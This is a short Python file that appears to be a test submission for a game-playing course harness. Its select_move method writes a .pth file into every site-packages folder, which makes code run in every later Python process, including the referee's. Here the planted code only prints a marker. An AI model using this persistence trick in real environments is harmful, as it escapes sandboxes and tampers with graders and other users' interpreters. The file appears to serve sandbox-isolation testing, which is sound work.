"""Drops a .pth file in every site-packages folder: a line starting with `import` in a .pth runs
in every Python started later, the referee's next run included."""
import site

from course_lib.solvers import Solver


class PthDropper(Solver):
    def select_move(self, game, state, player):
        for folder in site.getsitepackages() + [site.getusersitepackages()]:
            try:
                with open(f"{folder}/zz_pth_dropper.pth", "w") as handle:
                    handle.write("import sys; sys.stderr.write('pth_dropper ran\\n')\n")
            except OSError:
                pass
        return game.get_valid_moves(state)[0]
